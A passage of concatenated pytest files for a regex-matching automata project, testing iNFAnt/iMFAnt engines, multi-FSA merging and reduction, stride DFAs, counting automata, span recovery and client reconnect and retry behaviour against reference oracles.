        with pytest.raises(ConnectionLost, match="18 of 100 bytes"):
            client.match(b"needle")


def test_client_reconnects_after_server_restart(artifact, tmp_path):
    """A client holding a connection across a server restart re-dials the
    same address under its RetryPolicy and completes the request."""
    path = str(tmp_path / "sock")
    config = ServeConfig(shards=1)
    with ServerThread(artifact, config, socket_path=path) as address:
        client = MatchClient.connect(address, retry=RetryPolicy(max_attempts=4))
        assert client.match(PAYLOAD).matches == _oracle(artifact, PAYLOAD)
    # the server the client was talking to is gone; bring up a successor
    with ServerThread(artifact, config, socket_path=path):
        result = client.match(PAYLOAD)
        assert result.ok and result.matches == _oracle(artifact, PAYLOAD)
        assert client.reconnects >= 1 and client.retries >= 1
    client.close()


def test_client_timeout_separation(artifact):
    """connect_timeout bounds only the dial; the request timeout governs
    the connected socket (the historical conflation is gone)."""
    with ServerThread(artifact, ServeConfig(shards=1)) as address:
        with MatchClient.connect(address, timeout=7.5, connect_timeout=0.5) as client:
            assert client._sock.gettimeout() == 7.5
            assert client.ping()


def test_client_idempotent_retry_answered_from_dedup_window(artifact):
    """Reply-loss drill: with serve.conn.drop armed the scan completes but
    the answer is dropped; the retry carries the same request_key and is
    answered from the server's dedup window — never scanned twice, never
    answered differently."""
    oracle = _oracle(artifact, PAYLOAD)
    with ServerThread(artifact, ServeConfig(shards=2)) as address:
        with MatchClient.connect(address, retry=RetryPolicy(max_attempts=8)) as client:
            with faultinject.inject("serve.conn.drop", 0.5):
                for _ in range(6):
                    assert client.match(PAYLOAD).matches == oracle
            stats = client.server_stats()
    assert client.reconnects >= 1
    assert stats["requests_deduped"] >= 1
    assert stats["dedup_window"]["hits"] >= 1
