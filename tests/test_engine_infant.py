"""Tests for the baseline iNFAnt engine."""

import pytest
from hypothesis import given, settings

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.engine.infant import INfantEngine
from repro.engine.tables import FsaTables

from conftest import ere_patterns, input_strings


class TestTables:
    def test_symbol_index_shape(self):
        tables = FsaTables.build(compile_re_to_fsa("a[bc]"))
        assert len(tables.by_symbol) == 256
        assert len(tables.by_symbol[ord("a")]) == 1
        assert len(tables.by_symbol[ord("b")]) == 1
        assert len(tables.by_symbol[ord("c")]) == 1
        assert tables.by_symbol[ord("z")] == []

    def test_cc_transition_fans_out(self):
        tables = FsaTables.build(compile_re_to_fsa("[a-d]"))
        pair_sets = [tables.by_symbol[ord(c)] for c in "abcd"]
        assert all(p == pair_sets[0] for p in pair_sets)

    def test_rejects_epsilon(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        with pytest.raises(ValueError):
            FsaTables.build(thompson_construct(parse("ab")))


class TestEngine:
    def test_matches_reference(self):
        fsa = compile_re_to_fsa("ab+c")
        engine = INfantEngine(fsa, rule_id=3)
        result = engine.run("zabbbcab")
        assert result.matches == {(3, e) for e in find_match_ends(fsa, "zabbbcab")}

    def test_rule_id_tagging(self):
        engine = INfantEngine(compile_re_to_fsa("a"), rule_id=42)
        assert engine.run("a").matches == {(42, 1)}

    def test_restart_every_offset(self):
        engine = INfantEngine(compile_re_to_fsa("ab"))
        assert engine.run("abab").matches == {(0, 2), (0, 4)}

    def test_empty_stream(self):
        result = INfantEngine(compile_re_to_fsa("a")).run(b"")
        assert result.matches == set()
        assert result.stats.chars_processed == 0

    def test_empty_matching_rule(self):
        result = INfantEngine(compile_re_to_fsa("a*")).run("bb")
        assert result.matches == {(0, 0), (0, 1), (0, 2)}

    def test_bytes_input(self):
        engine = INfantEngine(compile_re_to_fsa("\\x00\\x01"))
        assert engine.run(bytes([0, 1])).matches == {(0, 2)}

    def test_stats_counters(self):
        fsa = compile_re_to_fsa("ab")
        stats = INfantEngine(fsa).run("aab").stats
        assert stats.chars_processed == 3
        # 'a' arc examined twice, 'b' arc once
        assert stats.transitions_examined == 3
        assert stats.active_pair_total >= 2
        assert stats.wall_seconds is not None

    def test_stats_disabled(self):
        stats = INfantEngine(compile_re_to_fsa("ab")).run("aab", collect_stats=False).stats
        assert stats.transitions_examined == 0
        assert stats.chars_processed == 3


class TestNumpyBackend:
    def test_unknown_backend(self):
        with pytest.raises(ValueError):
            INfantEngine(compile_re_to_fsa("a"), backend="cuda")

    def test_matches_python_backend(self):
        fsa = compile_re_to_fsa("a(b|c)+d")
        text = "zabcbdabdx" * 3
        py = INfantEngine(fsa, 5, backend="python").run(text)
        np_ = INfantEngine(fsa, 5, backend="numpy").run(text)
        assert np_.matches == py.matches
        assert np_.stats.transitions_examined == py.stats.transitions_examined
        assert np_.stats.active_pair_total == py.stats.active_pair_total

    def test_many_states_multi_limb(self):
        """>64 states exercises the multi-limb bit-vector path."""
        pattern = "".join("ab" for _ in range(40)) + "c"  # ~81 states
        fsa = compile_re_to_fsa(pattern)
        assert fsa.num_states > 64
        text = "ab" * 40 + "c"
        py = INfantEngine(fsa, backend="python").run(text)
        np_ = INfantEngine(fsa, backend="numpy").run(text)
        assert np_.matches == py.matches == {(0, 81)}

    def test_empty_matching_rule(self):
        got = INfantEngine(compile_re_to_fsa("a*"), backend="numpy").run("bb")
        assert got.matches == {(0, 0), (0, 1), (0, 2)}

    def test_dead_symbol_clears_state(self):
        engine = INfantEngine(compile_re_to_fsa("ab"), backend="numpy")
        assert engine.run("a\x00b").matches == set()


@pytest.mark.parametrize("backend", ["python", "numpy"])
@given(pattern=ere_patterns(), text=input_strings())
@settings(max_examples=100, deadline=None)
def test_agrees_with_reference_property(backend, pattern, text):
    fsa = compile_re_to_fsa(pattern)
    engine = INfantEngine(fsa, rule_id=0, backend=backend)
    assert engine.run(text).matches == {(0, e) for e in find_match_ends(fsa, text)}
