"""Tests for similarity-driven RE grouping (future-work extension)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.imfant import IMfantEngine
from repro.mfsa.clustering import group_sizes_valid, similarity_groups
from repro.mfsa.merge import MergeReport, merge_groups
from repro.pipeline.compiler import CompileOptions, compile_ruleset

from conftest import compile_ruleset_fsas


class TestSimilarityGroups:
    def test_empty(self):
        assert similarity_groups([], 4) == []

    def test_all_in_one_for_zero(self):
        assert similarity_groups(["a", "b", "c"], 0) == [[0, 1, 2]]

    def test_singletons_for_one(self):
        assert similarity_groups(["a", "b", "c"], 1) == [[0], [1], [2]]

    def test_partition_and_size_bound(self):
        keys = [f"pattern{i % 3}{'x' * (i % 5)}" for i in range(17)]
        groups = similarity_groups(keys, 4)
        assert group_sizes_valid(groups, 17, 4)

    def test_similar_strings_cluster_together(self):
        keys = ["httpget", "httpput", "dnsquery", "dnsreply"]
        groups = similarity_groups(keys, 2)
        as_sets = {frozenset(g) for g in groups}
        assert frozenset({0, 1}) in as_sets
        assert frozenset({2, 3}) in as_sets

    def test_deterministic(self):
        keys = [f"k{i}{'ab' * (i % 4)}" for i in range(12)]
        assert similarity_groups(keys, 3) == similarity_groups(keys, 3)

    def test_group_sizes_valid_detects_breakage(self):
        assert not group_sizes_valid([[0, 1], [1, 2]], 3, 2)  # duplicate
        assert not group_sizes_valid([[0]], 2, 2)  # missing index
        assert not group_sizes_valid([[0, 1, 2]], 3, 2)  # oversized


class TestMergeGroups:
    def test_explicit_groups(self):
        patterns = ["abc", "abd", "xyz", "xyw"]
        fsas = compile_ruleset_fsas(patterns)
        mfsas = merge_groups(fsas, [[0, 1], [2, 3]])
        assert len(mfsas) == 2
        assert mfsas[0].rule_ids == [0, 1]
        assert mfsas[1].rule_ids == [2, 3]

    def test_clustered_beats_interleaved_sequential(self):
        """With similar REs interleaved, similarity grouping compresses
        better than the paper's sequential sampling — the motivation for
        the future-work clustering."""
        patterns = ["abcdef0", "uvwxyz0", "abcdef1", "uvwxyz1",
                    "abcdef2", "uvwxyz2", "abcdef3", "uvwxyz3"]
        fsas = compile_ruleset_fsas(patterns)

        sequential_report = MergeReport()
        from repro.mfsa.merge import merge_ruleset

        merge_ruleset(fsas, 2, report=sequential_report)

        clustered_report = MergeReport()
        groups = similarity_groups(patterns, 2)
        merge_groups(fsas, groups, report=clustered_report)

        assert clustered_report.output_states < sequential_report.output_states


class TestPipelineIntegration:
    PATTERNS = ["getx", "gety", "put1", "put2", "del7"]

    def test_clustered_option(self):
        result = compile_ruleset(
            self.PATTERNS,
            CompileOptions(merging_factor=2, grouping="clustered", emit_anml=False),
        )
        all_rules = sorted(r for m in result.mfsas for r in m.rule_ids)
        assert all_rules == list(range(len(self.PATTERNS)))
        assert all(m.num_rules <= 2 for m in result.mfsas)

    def test_unknown_grouping_rejected(self):
        with pytest.raises(ValueError):
            compile_ruleset(self.PATTERNS, CompileOptions(grouping="random"))

    def test_matches_invariant_under_grouping(self):
        text = "getxgety put1del7"
        results = {}
        for grouping in ("sequential", "clustered"):
            compiled = compile_ruleset(
                self.PATTERNS,
                CompileOptions(merging_factor=2, grouping=grouping, emit_anml=False),
            )
            matches = set()
            for mfsa in compiled.mfsas:
                matches |= IMfantEngine(mfsa).run(text).matches
            results[grouping] = matches
        assert results["sequential"] == results["clustered"]


@given(st.lists(st.text(alphabet="abcd", min_size=1, max_size=8), min_size=1, max_size=14),
       st.integers(min_value=1, max_value=6))
@settings(max_examples=80, deadline=None)
def test_groups_always_partition(keys, merging_factor):
    groups = similarity_groups(keys, merging_factor)
    assert group_sizes_valid(groups, len(keys), merging_factor)
