"""Tests for 2-stride DFAs."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.dfa import DfaEngine, DfaExplosionError, build_stride2, determinize
from repro.dfa.multistride import StrideDfaEngine, byte_classes

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build(patterns):
    return determinize(compile_ruleset_fsas(patterns))


class TestByteClasses:
    def test_used_and_unused_bytes_split(self):
        dfa = build(["ab"])
        class_of, count = byte_classes(dfa)
        assert class_of[ord("a")] != class_of[ord("b")]
        assert class_of[ord("x")] == class_of[ord("y")]  # both unused
        assert count >= 3

    def test_cc_members_share_class(self):
        dfa = build(["[a-d]z"])
        class_of, _ = byte_classes(dfa)
        assert len({class_of[ord(c)] for c in "abcd"}) == 1

    def test_class_count_bounded_by_alphabet(self):
        dfa = build(["ab", "cd", "e[fg]"])
        _, count = byte_classes(dfa)
        assert count <= 256


class TestStride2:
    def test_even_length_matches(self):
        stride = build_stride2(build(["abcd"]))
        assert StrideDfaEngine(stride).run("zabcdz").matches == {(0, 5)}

    def test_odd_offset_match_via_mid_accepts(self):
        """A match ending at an odd offset is reported from the pair's
        intermediate state."""
        stride = build_stride2(build(["abc"]))
        assert StrideDfaEngine(stride).run("abcx").matches == {(0, 3)}

    def test_odd_length_stream_tail(self):
        stride = build_stride2(build(["abc"]))
        assert StrideDfaEngine(stride).run("abc").matches == {(0, 3)}

    def test_empty_and_single_byte_streams(self):
        stride = build_stride2(build(["a"]))
        assert StrideDfaEngine(stride).run(b"").matches == set()
        assert StrideDfaEngine(stride).run("a").matches == {(0, 1)}

    def test_half_the_steps(self):
        stride = build_stride2(build(["ab"]))
        stats = StrideDfaEngine(stride).run("abab" * 8).stats
        assert stats.transitions_examined == stats.chars_processed // 2

    def test_table_entries_metric(self):
        dfa = build(["ab", "cd"])
        stride = build_stride2(dfa)
        assert stride.table_entries == stride.num_states * stride.num_classes ** 2
        # quadratically larger than the per-class 1-stride table
        assert stride.table_entries > dfa.num_states * stride.num_classes

    @pytest.mark.parametrize("patterns,text", [
        (["ab", "bc"], "abcabc"),
        (["a+b"], "aaab aab"),
        (["x.*y"], "x12y4y"),
        (["abc", "abd", "ab"], "zabdabcab"),
        (["a*", "b"], "ab"),
    ])
    def test_agrees_with_base_dfa(self, patterns, text):
        dfa = build(patterns)
        stride = build_stride2(dfa)
        assert StrideDfaEngine(stride).run(text).matches == DfaEngine(dfa).run(text).matches


@given(st.lists(ere_patterns(), min_size=1, max_size=3), input_strings())
@settings(max_examples=60, deadline=None)
def test_stride2_equivalence_property(patterns, text):
    try:
        dfa = build(patterns)
    except DfaExplosionError:
        return
    stride = build_stride2(dfa)
    assert StrideDfaEngine(stride).run(text).matches == DfaEngine(dfa).run(text).matches
