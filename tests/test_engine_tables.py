"""Direct tests for the engine pre-processing tables (iNFAnt/iMFAnt layouts)."""

import numpy as np
import pytest

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.tables import FsaTables, MfsaTables, limbs_for, mask_to_limbs
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas


class TestMaskToLimbs:
    def test_low_word(self):
        assert mask_to_limbs(0b1011, 1) == (0b1011,)

    def test_split_words(self):
        mask = (1 << 64) | (1 << 63) | 1
        assert mask_to_limbs(mask, 2) == ((1 << 63) | 1, 1)

    def test_padding(self):
        assert mask_to_limbs(5, 3) == (5, 0, 0)

    def test_limbs_for_boundaries(self):
        assert [limbs_for(n) for n in (0, 1, 63, 64, 65, 128, 129)] == \
               [1, 1, 1, 1, 2, 2, 3]


class TestFsaTables:
    def test_accepts_empty_flag(self):
        assert FsaTables.build(compile_re_to_fsa("a*")).accepts_empty
        assert not FsaTables.build(compile_re_to_fsa("a")).accepts_empty

    def test_finals_frozen(self):
        tables = FsaTables.build(compile_re_to_fsa("ab|c"))
        assert isinstance(tables.finals, frozenset)

    def test_per_symbol_entries_cover_all_transitions(self):
        fsa = compile_re_to_fsa("a[bc]d")
        tables = FsaTables.build(fsa)
        total = sum(len(pairs) for pairs in tables.by_symbol)
        expected = sum(len(t.label) for t in fsa.labelled_transitions())
        assert total == expected


class TestMfsaTables:
    @pytest.fixture
    def tables(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab", "a[bc]", "ad"]))
        tables = MfsaTables.build(mfsa)
        tables.ensure_arrays()
        return tables

    def test_slot_to_rule_dense(self, tables):
        assert sorted(tables.slot_to_rule) == [0, 1, 2]

    def test_numpy_arrays_consistent_with_lists(self, tables):
        for byte in range(256):
            triples = tables.by_symbol[byte]
            if not triples:
                assert tables.np_src[byte] is None
                continue
            assert tables.np_src[byte].tolist() == [t[0] for t in triples]
            assert tables.np_dst[byte].tolist() == [t[1] for t in triples]
            for row, (_, _, mask) in enumerate(triples):
                words = tables.np_bel[byte][row]
                rebuilt = 0
                for i, word in enumerate(words.tolist()):
                    rebuilt |= word << (64 * i)
                assert rebuilt == mask

    def test_final_rows_point_at_final_capable_destinations(self, tables):
        for byte in range(256):
            rows = tables.np_final_rows[byte]
            if rows is None:
                continue
            dst = tables.np_dst[byte]
            for row in rows.tolist():
                assert tables.final_mask[int(dst[row])] != 0

    def test_init_final_arrays_match_masks(self, tables):
        for state in range(tables.num_states):
            init_words = tables.np_init[state].tolist()
            rebuilt = 0
            for i, word in enumerate(init_words):
                rebuilt |= word << (64 * i)
            assert rebuilt == tables.init_mask[state]

    def test_empty_matching_rules_listed(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["a*", "b"]))
        tables = MfsaTables.build(mfsa)
        assert tables.empty_matching_rules == [0]
