"""Tests for post-merge MFSA state reduction."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.imfant import IMfantEngine
from repro.mfsa.activation import reference_match
from repro.mfsa.merge import merge_fsas
from repro.mfsa.reduce import reduce_mfsa
from repro.pipeline.compiler import CompileOptions, compile_ruleset

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


class TestReduce:
    def test_collapses_identical_tails(self):
        """Two rules with the same suffix discovered through conflicting
        walks leave duplicate tail states the reducer can fold."""
        patterns = ["axyz", "bxyz", "cxyz", "dxyz"]
        mfsa = merge_fsas(compile_ruleset_fsas(patterns), min_walk_len=2)
        reduced = reduce_mfsa(mfsa)
        assert reduced.num_states <= mfsa.num_states

    def test_fixpoint(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abcd", "zbcd"]))
        reduced = reduce_mfsa(mfsa)
        again = reduce_mfsa(reduced)
        assert again.num_states == reduced.num_states

    def test_matches_preserved(self):
        patterns = ["abc", "abd", "xbc", "a[bc]e"]
        mfsa = merge_fsas(compile_ruleset_fsas(patterns))
        reduced = reduce_mfsa(mfsa)
        text = "zabcabdxbcabe"
        assert reference_match(reduced, text) == reference_match(mfsa, text)

    def test_initials_not_merged_with_plain_states(self):
        """A rule's initial state never merges with a non-initial one —
        the signature includes initial-for."""
        mfsa = merge_fsas(compile_ruleset_fsas(["ab", "b"]))
        reduced = reduce_mfsa(mfsa)
        q0s = set(reduced.initials.values())
        for rule, q0 in reduced.initials.items():
            assert q0 in q0s
        # matching still exact
        for text in ("ab", "b", "bb", "aab"):
            assert reference_match(reduced, text) == reference_match(mfsa, text)

    def test_belonging_union_on_collapsed_arcs(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["abx", "cbx"]), min_walk_len=3)
        reduced = reduce_mfsa(mfsa)
        reduced.validate()

    def test_max_rounds(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["aaaz", "baaz"]), min_walk_len=4)
        once = reduce_mfsa(mfsa, max_rounds=1)
        full = reduce_mfsa(mfsa)
        assert full.num_states <= once.num_states


class TestPipelineOption:
    def test_reduce_option_counts(self):
        patterns = ["axyz", "bxyz", "cxyz"]
        plain = compile_ruleset(patterns, CompileOptions(
            merging_factor=0, emit_anml=False, min_walk_len=3))
        reduced = compile_ruleset(patterns, CompileOptions(
            merging_factor=0, emit_anml=False, min_walk_len=3, reduce_mfsa=True))
        assert reduced.total_output_states <= plain.total_output_states
        assert reduced.merge_report.output_states == reduced.total_output_states

    def test_reduce_option_matches(self):
        patterns = ["abc", "abd", "ab"]
        text = "zabcabdab"
        outputs = []
        for flag in (False, True):
            compiled = compile_ruleset(patterns, CompileOptions(
                merging_factor=0, emit_anml=False, reduce_mfsa=flag))
            matches = set()
            for mfsa in compiled.mfsas:
                matches |= IMfantEngine(mfsa).run(text).matches
            outputs.append(matches)
        assert outputs[0] == outputs[1]


@given(st.data())
@settings(max_examples=80, deadline=None)
def test_reduction_preserves_matches_property(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    mfsa = merge_fsas(compile_ruleset_fsas(patterns))
    reduced = reduce_mfsa(mfsa)
    assert reduced.num_states <= mfsa.num_states
    assert reference_match(reduced, text) == reference_match(mfsa, text)
