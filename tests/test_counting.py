"""Tests for counting automata (construction + counting-set engine)."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.counting import CountingSetEngine, build_counting_fsa
from repro.counting.model import CountingTransition
from repro.labels import CharClass


def matches(pattern: str, text: str, min_count_bound: int = 1) -> set:
    cfsa = build_counting_fsa(pattern, min_count_bound=min_count_bound)
    return CountingSetEngine(cfsa).run(text).matches


def expected(pattern: str, text: str) -> set:
    return {(0, e) for e in find_match_ends(compile_re_to_fsa(pattern), text)}


class TestModel:
    def test_counting_arc_bounds_checked(self):
        with pytest.raises(ValueError):
            CountingTransition(0, 1, CharClass.single("a"), low=0, high=3)
        with pytest.raises(ValueError):
            CountingTransition(0, 1, CharClass.single("a"), low=3, high=2)
        with pytest.raises(ValueError):
            CountingTransition(0, 1, CharClass.empty(), low=1, high=2)


class TestConstruction:
    def test_large_bound_stays_compressed(self):
        cfsa = build_counting_fsa("a{500}b")
        assert len(cfsa.counting) == 1
        assert cfsa.num_states < 10
        expanded = compile_re_to_fsa("a{200}b")  # budget caps at 256
        assert expanded.num_states > 100

    def test_small_bound_expands(self):
        cfsa = build_counting_fsa("a{2}b", min_count_bound=4)
        assert not cfsa.counting

    def test_min_count_bound_dial(self):
        assert build_counting_fsa("a{2}b", min_count_bound=1).counting
        assert not build_counting_fsa("a{2}b", min_count_bound=10).counting

    def test_only_width1_bodies_count(self):
        cfsa = build_counting_fsa("(ab){100}")
        assert not cfsa.counting  # multi-symbol body expands

    def test_unbounded_low_counts(self):
        cfsa = build_counting_fsa("[xy]{50,}z")
        assert len(cfsa.counting) == 1
        assert cfsa.counting[0].high is None

    def test_optional_counting_has_bypass(self):
        cfsa = build_counting_fsa("a{0,100}b", min_count_bound=1)
        assert cfsa.counting
        # the ε bypass survives as a plain path: "b" alone matches
        assert CountingSetEngine(cfsa).run("b").matches == {(0, 1)}

    def test_epsilon_free(self):
        cfsa = build_counting_fsa("(a|b{10,20})c")
        cfsa.validate()


class TestEngine:
    @pytest.mark.parametrize("pattern,text", [
        ("a{3}", "aaaa"),
        ("a{2,4}b", "aaab aaaaab"),
        ("x[ab]{2,3}y", "xaby xabay xabbby xabbbby"),
        ("a{3,}b", "aab aaab aaaaaab"),
        ("(a{2,3}|bc)d", "aad bcd aaaad"),
        ("za{0,2}b", "zb zab zaab zaaab"),
        ("a{2}a{2}", "aaaa"),
    ])
    def test_agrees_with_expansion_pipeline(self, pattern, text):
        assert matches(pattern, text) == expected(pattern, text)

    def test_large_bound_correctness(self):
        """The case expansion cannot reach: a 500-bound repeat."""
        pattern = "a{498,500}b"
        text = "a" * 499 + "b" + "a" * 10
        oracle = re.compile("a{498,500}b")
        expect = {(0, m.start() + len(m.group())) for m in
                  (oracle.match(text, s) for s in range(len(text))) if m}
        assert matches(pattern, text) == expect

    def test_overlapping_runs(self):
        """Multiple concurrent counter entries (counting-set behaviour)."""
        assert matches("ba{2,3}", "baaa") == expected("ba{2,3}", "baaa")

    def test_mismatch_resets_counter(self):
        assert matches("a{3}b", "aaxaaab") == {(0, 7)}

    def test_unbounded_saturation(self):
        got = matches("a{3,}", "a" * 6)
        assert got == {(0, e) for e in (3, 4, 5, 6)}

    def test_counts_do_not_leak_across_runs(self):
        engine = CountingSetEngine(build_counting_fsa("a{3}b"))
        assert engine.run("aaab").matches == {(0, 4)}
        assert engine.run("ab").matches == set()  # fresh state per run

    def test_rule_id_tagging(self):
        cfsa = build_counting_fsa("a{2}")
        assert CountingSetEngine(cfsa, rule_id=9).run("aa").matches == {(9, 2)}

    def test_stats(self):
        stats = CountingSetEngine(build_counting_fsa("a{5}b")).run("a" * 10).stats
        assert stats.chars_processed == 10
        assert stats.transitions_examined > 0
        assert stats.active_pair_total > 0


@given(
    low=st.integers(min_value=1, max_value=6),
    extra=st.integers(min_value=0, max_value=4),
    text=st.text(alphabet="abz", max_size=30),
)
@settings(max_examples=150, deadline=None)
def test_bounded_counting_equivalence_property(low, extra, text):
    pattern = f"a{{{low},{low + extra}}}b"
    assert matches(pattern, text) == expected(pattern, text)


@given(
    low=st.integers(min_value=1, max_value=6),
    text=st.text(alphabet="ab", max_size=30),
)
@settings(max_examples=100, deadline=None)
def test_unbounded_counting_equivalence_property(low, text):
    pattern = f"[ab]{{{low},}}a"
    assert matches(pattern, text) == expected(pattern, text)


@given(text=st.text(alphabet="xyz", max_size=40))
@settings(max_examples=100, deadline=None)
def test_mixed_pattern_property(text):
    pattern = "x[yz]{2,5}x"
    assert matches(pattern, text) == expected(pattern, text)
