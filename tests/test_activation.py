"""Tests for the activation-function semantics (Eqs. 4–6), including the
paper's Fig. 3 and Fig. 6 walk-throughs."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.mfsa.activation import ActivationConfig, active_set_trace, reference_match
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


class TestFig3:
    """z_{1,2} from a1 = bcdegh and a2 = def (paper Fig. 3)."""

    @pytest.fixture
    def mfsa(self):
        return merge_fsas(compile_ruleset_fsas(["bcdegh", "def"]))

    def test_s1_degh_matches_nothing(self, mfsa):
        """s1 = degh: a2 activates on d, e but dies at g; a1 never starts."""
        assert reference_match(mfsa, "degh") == set()

    def test_s2_bcdef_matches_a2_only(self, mfsa):
        """s2 = bcdef: a1 stays active through bcde, f discards it and the
        branch completes a2's def (ending at offset 5)."""
        assert reference_match(mfsa, "bcdef") == {(1, 5)}

    def test_full_bcdegh_matches_a1(self, mfsa):
        assert (0, 6) in reference_match(mfsa, "bcdegh")

    def test_def_substring_matches_a2(self, mfsa):
        assert reference_match(mfsa, "xxdefxx") == {(1, 5)}


class TestFig6:
    """z from a1 = (ad|cb)ab and a2 = a(b|c) against s = acbab (Fig. 6)."""

    @pytest.fixture
    def mfsa(self):
        return merge_fsas([(1, compile_re_to_fsa("(ad|cb)ab")),
                           (2, compile_re_to_fsa("a(b|c)"))])

    def test_three_matches(self, mfsa):
        """ac (a2, end 2), cbab (a1, end 5), ab (a2, end 5)."""
        assert reference_match(mfsa, "acbab") == {(2, 2), (1, 5), (2, 5)}

    def test_no_cross_language_false_positives(self, mfsa):
        """adb mixes a1's ad with a2's b continuation: no rule matches at 3."""
        got = reference_match(mfsa, "adb")
        assert (1, 3) not in got and (2, 3) not in got


class TestUnwantedLanguages:
    def test_kjaglm_rejected(self):
        """The paper's §III-B example: z of a1=a[gj](lm|cd), a2=kja[gj]cd
        must not accept strings of neither language, e.g. kjaglm."""
        fsas = compile_ruleset_fsas(["a[gj](lm|cd)", "kja[gj]cd"])
        mfsa = merge_fsas(fsas)
        text = "kjaglm"
        expected = set()
        for rule, fsa in fsas:
            expected |= {(rule, e) for e in find_match_ends(fsa, text)}
        got = reference_match(mfsa, text)
        assert got == expected
        # Note: rule 0 legitimately matches the *substring* aglm ending at
        # offset 6 (streaming semantics); what must not happen is a match
        # for rule 1 (kja[gj]cd) there — the paper's unwanted language.
        assert (1, 6) not in got


class TestPopOnFinal:
    def test_pop_drops_extension_matches(self):
        """Eq. 5 literally: ab* on 'abb' reports only the first final visit
        per path (end 1), later ends come only from the popped path."""
        mfsa = merge_fsas(compile_ruleset_fsas(["ab+"]))
        keep = reference_match(mfsa, "abb")
        pop = reference_match(mfsa, "abb", ActivationConfig(pop_on_final=True))
        assert keep == {(0, 2), (0, 3)}
        assert pop == {(0, 2)}

    def test_pop_is_subset_of_keep(self):
        patterns = ["a+b*", "(ab)+"]
        mfsa = merge_fsas(compile_ruleset_fsas(patterns))
        text = "aababb"
        keep = reference_match(mfsa, text)
        pop = reference_match(mfsa, text, ActivationConfig(pop_on_final=True))
        assert pop <= keep


class TestEmptyMatchingRules:
    def test_star_rule_matches_everywhere(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["a*", "b"]))
        got = reference_match(mfsa, "xb")
        assert {(0, 0), (0, 1), (0, 2)} <= got
        assert (1, 2) in got


class TestActiveTrace:
    def test_trace_length_matches_stream(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab", "ac"]))
        trace = active_set_trace(mfsa, "aaxx")
        assert len(trace) == 4

    def test_trace_counts_pairs(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab", "ac"]))
        trace = active_set_trace(mfsa, "a")
        # the shared a-arc carries both rules to one state: 2 active pairs
        assert trace[0] == 2

    def test_trace_zero_on_dead_symbols(self):
        mfsa = merge_fsas(compile_ruleset_fsas(["ab"]))
        assert active_set_trace(mfsa, "zz") == [0, 0]


@given(st.data())
@settings(max_examples=80, deadline=None)
def test_activation_equals_per_rule_simulation(data):
    """The central soundness/completeness property: per-rule matches of the
    merged automaton equal the per-FSA reference matches."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    fsas = compile_ruleset_fsas(patterns)
    mfsa = merge_fsas(fsas)
    expected = set()
    for rule, fsa in fsas:
        expected |= {(rule, end) for end in find_match_ends(fsa, text)}
    assert reference_match(mfsa, text) == expected
