"""Tests for match-span recovery (start offsets)."""

import re

import pytest
from hypothesis import given, settings

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.spans import SpanFinder, find_spans

from conftest import ere_patterns, input_strings


class TestStartsForEnd:
    def test_fixed_length(self):
        finder = SpanFinder(compile_re_to_fsa("abc"))
        assert finder.starts_for_end("zabc", 4) == {1}

    def test_variable_length(self):
        finder = SpanFinder(compile_re_to_fsa("a+"))
        assert finder.starts_for_end("aaa", 3) == {0, 1, 2}

    def test_no_match_at_end(self):
        finder = SpanFinder(compile_re_to_fsa("abc"))
        assert finder.starts_for_end("zzzz", 4) == set()

    def test_empty_match(self):
        finder = SpanFinder(compile_re_to_fsa("a*"))
        assert 2 in finder.starts_for_end("bb", 2)

    def test_end_out_of_range(self):
        finder = SpanFinder(compile_re_to_fsa("a"))
        with pytest.raises(ValueError):
            finder.starts_for_end("a", 5)

    def test_requires_epsilon_free(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        with pytest.raises(ValueError):
            SpanFinder(thompson_construct(parse("a|b")))


class TestFindSpans:
    def test_all_spans(self):
        spans = find_spans(compile_re_to_fsa("a+"), "aab")
        assert spans == {(0, 1), (0, 2), (1, 2)}

    def test_leftmost_only(self):
        spans = find_spans(compile_re_to_fsa("a+"), "aab", leftmost_only=True)
        assert spans == {(0, 1), (0, 2)}

    def test_disjoint_occurrences(self):
        spans = find_spans(compile_re_to_fsa("ab"), "abxab")
        assert spans == {(0, 2), (3, 5)}

    def test_alternation_lengths(self):
        spans = find_spans(compile_re_to_fsa("a|ba"), "ba")
        assert spans == {(0, 2), (1, 2)}


@given(ere_patterns(), input_strings())
@settings(max_examples=120, deadline=None)
def test_spans_agree_with_re(pattern, text):
    """Every recovered span is a genuine match and every re-findable span
    is recovered (all-starts mode, compared against an exhaustive oracle)."""
    fsa = compile_re_to_fsa(pattern)
    oracle = re.compile(f"(?:{pattern})\\Z")
    expected = {
        (start, end)
        for end in range(len(text) + 1)
        for start in range(end + 1)
        if oracle.match(text, start, end)
    }
    assert find_spans(fsa, text) == expected
