"""Tests for the iMFAnt engine (both backends)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.imfant import IMfantEngine
from repro.engine.infant import INfantEngine
from repro.engine.tables import MfsaTables, limbs_for, mask_to_limbs
